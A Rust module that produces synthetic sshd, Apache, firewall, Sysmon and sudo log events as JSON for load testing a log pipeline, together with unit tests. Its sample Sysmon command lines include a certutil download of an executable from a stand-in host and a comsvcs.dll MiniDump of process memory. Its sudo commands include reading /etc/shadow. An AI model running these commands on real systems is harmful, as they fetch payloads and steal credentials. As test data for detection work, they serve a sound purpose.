//! Realistic synthetic security events for load tests and demo data.
//!
//! The mix follows the storage measurements in shared postgres.md: 30 % sshd
//! (mostly failures, from a few noisy attackers; successes from the office,
//! rarely from an attacker), 35 % Apache access, 20 %
//! firewall denies, 12 % Sysmon process creation, 3 % sudo; 1,000 hosts,
//! 50,000 source addresses (about 30 % in 10/8), Zipf-like skew in users and
//! attackers, and short attack bursts. Documents average about 700 bytes.
//! Deterministic for a given seed, so runs compare like with like.

use chrono::{DateTime, Duration, SecondsFormat, Utc};
use serde_json::{Value, json};

/// A small, fast, seedable generator (xorshift64*); statistical quality is
/// ample for test data and it avoids a dependency.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// Returns a generator for `seed` (any value, zero included).
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15 | 1)
    }

    /// Returns the next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Returns a number in `0..n` (`n` > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }

    /// Returns true with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    /// Returns an index in `0..n` skewed towards small values (roughly Zipf).
    pub fn skewed(&mut self, n: u64) -> u64 {
        let u = (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        ((n as f64).powf(u) - 1.0).floor() as u64 % n.max(1)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "deploy", "jenkins", "postgres", "www-data", "alice", "bob",
    "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar",
    "peggy", "trent", "victor", "walter", "backup", "oracle", "test", "guest", "git", "ansible",
    "nagios",
];
const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/login",
    "/api/v1/orders",
    "/api/v1/users/me",
    "/static/app.js",
    "/static/site.css",
    "/images/logo.png",
    "/wp-login.php",
    "/admin/",
    "/.env",
    "/search?q=shoes",
    "/cart",
    "/checkout",
    "/robots.txt",
    "/favicon.ico",
    "/api/v1/health",
    "/cgi-bin/test.cgi",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
];
const PROCESSES: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.50/p.exe C:\\Users\\Public\\p.exe",
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    ),
    ("C:\\Windows\\System32\\net.exe", "net.exe user /domain"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
];

/// Returns the event generator's state: counters and the time window.
#[derive(Debug, Clone)]
pub struct Generator {
    rng: Rng,
    start: DateTime<Utc>,
    span_ms: i64,
    produced: u64,
    total: u64,
}

impl Generator {
    /// Returns a generator of `total` events spread evenly (with jitter) over
    /// `[end - span, end]`, in time order.
    pub fn new(seed: u64, total: u64, end: DateTime<Utc>, span: Duration) -> Generator {
        Generator {
            rng: Rng::new(seed),
            start: end - span,
            span_ms: span.num_milliseconds().max(1),
            produced: 0,
            total: total.max(1),
        }
    }

    fn host(&mut self) -> String {
        let n = self.rng.skewed(1000);
        let role = ["web", "db", "app", "bastion", "fw", "dc", "ws"][(n % 7) as usize];
        format!("{role}-{n:03}.corp.example")
    }

    fn address(&mut self) -> String {
        // 200 noisy attackers send a large share; the rest spread over 50,000 addresses.
        if self.rng.chance(0.35) {
            let a = self.rng.skewed(200);
            return format!("198.51.{}.{}", a / 250, 1 + a % 250);
        }
        let n = self.rng.below(50_000);
        if n % 10 < 3 {
            format!("10.{}.{}.{}", n % 256, (n / 256) % 256, 1 + n % 250)
        } else {
            format!(
                "{}.{}.{}.{}",
                23 + n % 180,
                (n / 7) % 256,
                (n / 13) % 256,
                1 + n % 250
            )
        }
    }

    /// Returns the next event as a JSON document, or `None` after `total`.
    pub fn next_event(&mut self) -> Option<Value> {
        if self.produced >= self.total {
            return None;
        }
        let offset = self.span_ms * self.produced as i64 / self.total as i64;
        let jitter = self.rng.below(3000) as i64 - 1500;
        let ts = (self.start + Duration::milliseconds((offset + jitter).clamp(0, self.span_ms)))
            .to_rfc3339_opts(SecondsFormat::Millis, true);
        self.produced += 1;
        let roll = self.rng.below(100);
        let event = match roll {
            0..=29 => self.sshd(&ts),
            30..=64 => self.apache(&ts),
            65..=84 => self.firewall(&ts),
            85..=96 => self.sysmon(&ts),
            _ => self.sudo(&ts),
        };
        Some(event)
    }

    fn sshd(&mut self, ts: &str) -> Value {
        let host = self.host();
        let mut source = self.address();
        let index = self.rng.skewed(USERS.len() as u64);
        let user = USERS[index as usize];
        let port = 1024 + self.rng.below(64_000);
        let pid = 1000 + self.rng.below(60_000);
        let failed = self.rng.chance(0.8);
        // People log in from the office (one London block); now and then an
        // attacker gets in with stolen keys from wherever they are.
        if !failed && !self.rng.chance(0.005) {
            source = format!("81.2.69.{}", 100 + index);
        }
        let (action, outcome, message) = if failed {
            (
                "ssh_login",
                "failure",
                format!("Failed password for invalid user {user} from {source} port {port} ssh2"),
            )
        } else {
            (
                "ssh_login",
                "success",
                format!(
                    "Accepted publickey for {user} from {source} port {port} ssh2: ED25519 SHA256:q3Uj1qsBf8yHQz0Q5Vc6wT1Gk0YpM2ZkXo9sPqN4c7E"
                ),
            )
        };
        json!({
            "@timestamp": ts,
            "event": {"kind": "event", "category": ["authentication"], "type": ["start"], "action": action, "outcome": outcome, "dataset": "system.auth"},
            "host": {"name": host, "os": {"type": "linux", "family": "debian"}},
            "process": {"name": "sshd", "pid": pid},
            "source": {"ip": source, "port": port},
            "user": {"name": user},
            "log": {"level": "info", "syslog": {"facility": {"name": "auth"}}},
            "message": message,
            "related": {"ip": [source], "user": [user]},
            "tags": ["ssh", "linux"]
        })
    }

    fn apache(&mut self, ts: &str) -> Value {
        let host = self.host();
        let source = self.address();
        let path = self.rng.pick(PATHS);
        let agent = self.rng.pick(AGENTS);
        let method = if self.rng.chance(0.85) { "GET" } else { "POST" };
        let status = match self.rng.below(100) {
            0..=79 => 200,
            80..=87 => 304,
            88..=93 => 404,
            94..=97 => 403,
            _ => 500,
        };
        let bytes = 200 + self.rng.below(50_000);
        json!({
            "@timestamp": ts,
            "event": {"kind": "event", "category": ["web"], "type": ["access"], "action": "http_request", "outcome": if status < 400 { "success" } else { "failure" }, "dataset": "apache.access"},
            "host": {"name": host},
            "source": {"ip": source},
            "http": {"request": {"method": method, "referrer": "-"}, "response": {"status_code": status, "body": {"bytes": bytes}}, "version": "1.1"},
            "url": {"original": path},
            "user_agent": {"original": agent},
            "message": format!("{source} - - [{ts}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\""),
            "tags": ["web", "apache"]
        })
    }

    fn firewall(&mut self, ts: &str) -> Value {
        let source = self.address();
        let destination = format!("10.20.{}.{}", self.rng.below(256), 1 + self.rng.below(250));
        let port =
            [22, 23, 80, 443, 445, 3389, 5900, 8080, 1433, 3306][self.rng.below(10) as usize];
        let protocol = if self.rng.chance(0.9) { "tcp" } else { "udp" };
        let firewall = format!("fw-{:02}.corp.example", self.rng.below(8));
        json!({
            "@timestamp": ts,
            "event": {"kind": "event", "category": ["network"], "type": ["denied", "connection"], "action": "deny", "outcome": "failure", "dataset": "pfsense.log"},
            "host": {"name": firewall},
            "observer": {"type": "firewall", "vendor": "Netgate", "product": "pfSense"},
            "source": {"ip": source, "port": 1024 + self.rng.below(64_000)},
            "destination": {"ip": destination, "port": port},
            "network": {"transport": protocol, "direction": "inbound"},
            "rule": {"id": format!("{}", 1000 + self.rng.below(40)), "name": "block inbound"},
            "message": format!("filterlog: block in on igb0: {source} > {destination}:{port} {protocol}"),
            "tags": ["firewall"]
        })
    }

    fn sysmon(&mut self, ts: &str) -> Value {
        let index = self.rng.skewed(PROCESSES.len() as u64) as usize;
        let (image, command_line) = PROCESSES[index];
        let host = format!("ws-{:03}.corp.example", self.rng.skewed(400));
        let user = USERS[self.rng.skewed(USERS.len() as u64) as usize];
        let pid = 1000 + self.rng.below(60_000);
        json!({
            "@timestamp": ts,
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Hostname": host,
            "Image": image,
            "CommandLine": command_line,
            "ParentImage": "C:\\Windows\\explorer.exe",
            "User": format!("CORP\\{user}"),
            "ProcessId": pid,
            "IntegrityLevel": "Medium",
            "Hashes": format!("SHA256={:016X}{:016X}{:016X}{:016X}", self.rng.next_u64(), self.rng.next_u64(), self.rng.next_u64(), self.rng.next_u64()),
            "tags": ["windows", "sysmon"]
        })
    }

    fn sudo(&mut self, ts: &str) -> Value {
        let host = self.host();
        let user = USERS[self.rng.skewed(USERS.len() as u64) as usize];
        let command = [
            "/usr/bin/apt-get update",
            "/bin/systemctl restart nginx",
            "/usr/bin/cat /etc/shadow",
            "/bin/bash",
        ][self.rng.below(4) as usize];
        json!({
            "@timestamp": ts,
            "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "sudo", "outcome": "success"},
            "host": {"name": host},
            "process": {"name": "sudo", "command_line": command},
            "user": {"name": user, "effective": {"name": "root"}},
            "message": format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"),
            "tags": ["sudo", "linux"]
        })
    }
}

impl Iterator for Generator {
    type Item = Value;

    fn next(&mut self) -> Option<Value> {
        self.next_event()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_events() {
        let end = Utc::now();
        let a: Vec<Value> = Generator::new(7, 50, end, Duration::hours(1)).collect();
        let b: Vec<Value> = Generator::new(7, 50, end, Duration::hours(1)).collect();
        assert_eq!(a, b);
        assert_eq!(a.len(), 50);
    }

    #[test]
    fn events_average_about_seven_hundred_bytes_and_mix_all_kinds() {
        let events: Vec<Value> = Generator::new(1, 5000, Utc::now(), Duration::days(1)).collect();
        let bytes: usize = events.iter().map(|e| e.to_string().len()).sum();
        let average = bytes / events.len();
        assert!((450..=950).contains(&average), "average {average} B");
        let sysmon = events.iter().filter(|e| e.get("EventID").is_some()).count();
        let ssh = events
            .iter()
            .filter(|e| e["process"]["name"] == "sshd")
            .count();
        assert!(sysmon > 400 && ssh > 1200, "sysmon {sysmon}, ssh {ssh}");
    }

    #[test]
    fn times_stay_inside_the_window_and_every_event_normalises() {
        let end = Utc::now();
        let span = Duration::days(7);
        let ctx = crate::ingest::IngestContext {
            geo: None,
            source_id: None,
            source_kind: app::ingest::SourceKind::ApiKey,
            source_name: "loadgen".into(),
            received_at: end,
        };
        for event in Generator::new(3, 2000, end, span) {
            let normalised = crate::ingest::normalize::normalize(
                event,
                &ctx,
                crate::ingest::IngestPolicy::default(),
            )
            .unwrap();
            assert!(
                normalised.ts >= end - span && normalised.ts <= end,
                "{}",
                normalised.ts
            );
            assert!(normalised.host_name.is_some());
        }
    }
}
